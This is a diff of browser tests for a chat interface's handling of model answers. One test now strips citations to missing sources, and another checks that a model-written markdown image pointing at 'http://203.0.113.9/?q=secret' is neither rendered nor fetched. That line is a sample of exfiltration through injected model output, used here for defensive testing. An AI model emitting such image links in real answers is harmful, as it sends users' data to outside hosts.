@@ -29,21 +29,23 @@ def test_addresses_in_prose_keep_every_group(open_chat, modelled, model):
     )
 
 
-def test_a_number_that_no_source_has_opens_nothing(open_chat, modelled, model):
+def test_a_number_that_no_source_has_is_removed_and_said(open_chat, modelled, model):
     model.answer = "As [7] shows."
     chat = open_chat(modelled).ask(CALL).answered()
 
-    assert "[7]" in chat.answer
+    assert "As shows." in chat.answer
+    assert "1 citation of no source removed" in chat.answer
     expect(chat.table).to_be_visible()
     expect(chat.page.locator(".prose a.element-link")).to_have_count(0)
 
 
 def test_a_picture_that_a_model_writes_is_not_fetched(open_chat, modelled, model):
     model.answer = "![x](http://203.0.113.9/?q=secret) [1]"
-    chat = open_chat(modelled).ask(CALL)
-    with chat.page.expect_event("console", lambda message: "203.0.113.9" in message.text) as refused:
-        chat.answered()
-    assert "Content Security Policy" in refused.value.text
+    chat = open_chat(modelled).ask(CALL).answered()
+
+    assert "x (http://203.0.113.9/?q=secret)" in chat.answer
+    expect(chat.answers.last.locator("img[src*='203.0.113.9']")).to_have_count(0)
+    assert [url for url in chat.requests if "203.0.113.9" in url] == []
 
 
 @pytest.mark.parametrize("how", ["button", "escape"])
